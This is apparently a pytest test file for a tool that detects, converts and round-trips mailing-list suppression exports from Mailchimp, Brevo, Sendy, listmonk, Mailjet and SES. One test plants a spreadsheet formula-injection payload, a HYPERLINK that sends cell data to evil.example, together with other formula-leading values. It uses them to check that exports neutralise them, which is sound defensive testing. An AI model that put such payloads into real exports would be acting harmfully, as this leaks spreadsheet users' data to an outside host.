"""listformats: each mailing tool's list detected from its columns, read, written and read again."""

from __future__ import annotations

import io
from pathlib import Path

import pytest

from bouncedesk.errors import InputError
from bouncedesk.lists import listformats as lf

LISTS = Path(__file__).parent.parent / "fixtures" / "lists"

SAMPLES = {
    "mailchimp_cleaned.csv": "mailchimp", "mailchimp_unsubscribed.csv": "mailchimp", "brevo_contacts.csv": "brevo",
    "brevo_blocked.json": "brevo", "sendy_export.csv": "sendy", "listmonk_subscribers.csv": "listmonk",
    "mailjet_contacts.csv": "mailjet", "ses_suppressed.json": "ses", "ses_bulk.csv": "ses",
    "ses_bulk_header.csv": "ses", "plain.txt": "plain",
}  # fmt: skip


def key(e: lf.Entry) -> tuple:
    return (e.email, e.reason, e.raw_status)  # not every format keeps a time


@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_each_sample_is_detected(name: str) -> None:
    assert lf.detect((LISTS / name).read_bytes()).key == SAMPLES[name]


@pytest.mark.parametrize("name", sorted(SAMPLES))
def test_read_write_read_round_trip(name: str) -> None:
    data = (LISTS / name).read_bytes()
    fmt = lf.detect(data)
    first = [e for e in lf.read(data) if e.reason is not None]
    assert first
    out = io.StringIO()
    assert lf.write(fmt, first, out, now=0) == len(first)
    written = out.getvalue()
    assert lf.detect(written).key == fmt.key
    assert [key(e) for e in lf.read(written, fmt)] == [key(e) for e in first]


def test_reasons_are_mapped_to_ours() -> None:
    def reasons(name: str) -> dict:
        return {e.email: e.reason for e in lf.read((LISTS / name).read_bytes())}

    assert reasons("mailchimp_cleaned.csv")["gone.away@example.com"] == lf.BOUNCE
    mc = reasons("mailchimp_unsubscribed.csv")
    assert mc["angry@example.org"] == lf.COMPLAINT and mc["tired.reader@example.com"] == lf.USER
    assert reasons("brevo_blocked.json") == {"hard.bounce@example.com": lf.BOUNCE, "spam.click@example.org": lf.COMPLAINT,
                                             "left@example.net": lf.USER}  # fmt: skip
    assert reasons("brevo_contacts.csv")["still.here@example.com"] is None  # not blocklisted: left alone
    sendy = reasons("sendy_export.csv")
    assert (sendy["bouncy@example.net"], sendy["spammy@example.org"], sendy["happy@example.com"]) == (
        lf.BOUNCE, lf.COMPLAINT, None)  # fmt: skip
    assert reasons("listmonk_subscribers.csv")["fine@example.com"] is None
    assert reasons("mailjet_contacts.csv")["included@example.com"] is None
    assert reasons("ses_suppressed.json") == {
        "bounced@example.com": lf.BOUNCE,
        "complained@example.net": lf.COMPLAINT,
    }


def test_our_reasons_become_the_tools_words() -> None:
    entries = [lf.Entry("a@example.com", lf.BOUNCE), lf.Entry("b@example.com", lf.COMPLAINT),
               lf.Entry("c@example.com", lf.USER)]  # fmt: skip

    def written(fmt: str) -> str:
        out = io.StringIO()
        lf.write(fmt, entries, out, now=0)
        return out.getvalue()

    assert "a@example.com,BOUNCE" in written("ses") and "b@example.com,COMPLAINT" in written("ses")
    brevo = written("brevo")
    assert "hardBounce" in brevo and "contactFlaggedAsSpam" in brevo and "adminBlocked" in brevo
    assert ",Bounced" in written("sendy") and ",Marked as spam" in written("sendy")
    mc = written("mailchimp")
    assert mc.startswith("Email Address,CLEAN_TIME,UNSUB_TIME,UNSUB_REASON\r\n")
    assert [e.reason for e in lf.read(mc)] == [lf.BOUNCE, lf.COMPLAINT, lf.USER]
    assert [e.reason for e in lf.read(written("listmonk"))] == [lf.BOUNCE, lf.COMPLAINT, lf.USER]
    assert written("plain") == "a@example.com\r\nb@example.com\r\nc@example.com\r\n"


@pytest.mark.parametrize("fmt", [k for k in lf.KEYS if k != "plain"])
def test_hostile_cells_are_inert_on_export(fmt: str) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    entries = [
        lf.Entry("-cmd@example.com", lf.USER, evil, at="+SUM(1,2)"),
        lf.Entry("ok@example.com", lf.BOUNCE),
    ]
    out = io.StringIO()
    lf.write(fmt, entries, out, now=0)
    import csv

    for row in csv.reader(io.StringIO(out.getvalue())):
        for cell in row:
            assert not cell or cell.lstrip()[0] not in "=+-@", (fmt, cell)


def test_utf8_bom_crlf_and_utf16() -> None:
    text = "Email Address,UNSUB_TIME,UNSUB_REASON\r\nbom@example.com,2024-01-01 00:00:00,\r\n"
    for data in (b"\xef\xbb\xbf" + text.encode(), text.encode("utf-16")):
        assert lf.detect(data).key == "mailchimp"
        assert [key(e) for e in lf.read(data)] == [("bom@example.com", lf.USER, "unsubscribed")]


def test_a_semicolon_brevo_file_and_a_headerless_ses_file() -> None:
    assert [e.email for e in lf.read(b"EMAIL;EMAIL_BLACKLISTED\r\nx@example.com;Yes\r\n")] == [
        "x@example.com"
    ]
    assert [key(e) for e in lf.read(b"y@example.com,BOUNCE\n")] == [("y@example.com", lf.BOUNCE, "BOUNCE")]


def test_unknown_format_is_a_clear_error() -> None:
    with pytest.raises(InputError, match="Mailchimp, Brevo, Sendy, listmonk, Mailjet, Amazon SES"):
        lf.detect(b"name,city\nAnn,Bremen\n")
    with pytest.raises(InputError, match="JSON file is not a suppression list"):
        lf.detect(b'{"users": [{"mail": "a@example.com"}]}')
    with pytest.raises(InputError, match="not a list from Mailchimp"):
        list(lf.read(b"email,name\na@example.com,A\n", "mailchimp"))
    with pytest.raises(InputError, match="unknown list format"):
        lf.get_format("hubspot")


def test_invalid_addresses_are_kept_for_the_report() -> None:
    entries = list(lf.read((LISTS / "plain.txt").read_bytes()))
    assert [e.email for e in entries if not lf.valid_address(e.email)] == ["not an address@"]
    assert not lf.valid_address("bad address@example.org") and lf.valid_address("ok.one+tag@example.co.uk")
